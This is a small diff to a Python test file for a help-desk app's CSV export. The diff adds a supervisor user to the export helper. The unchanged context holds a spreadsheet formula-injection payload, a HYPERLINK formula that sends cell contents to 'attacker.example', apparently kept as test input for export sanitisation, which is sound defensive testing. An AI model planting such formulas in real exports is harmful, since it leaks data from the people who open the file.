@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import getpass
 from pathlib import Path
 
 import pytest
@@ -15,7 +16,8 @@ HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A2,"Click for details")'
 
 def export(tmp_path: Path, *flags: str) -> list[dict[str, str]]:
     out = tmp_path / "export.csv"
-    result = desk_app(tmp_path, "export", "--csv", out, *flags)
+    # Run by a supervisor: who may export personal data is tests/test_identity_cli.py's.
+    result = desk_app(tmp_path, "export", "--csv", out, *flags, desk_supervisors=getpass.getuser())
     assert result.returncode == 0, result.stderr
     with out.open(encoding="utf-8", newline="") as handle:
         return list(csv.DictReader(handle))
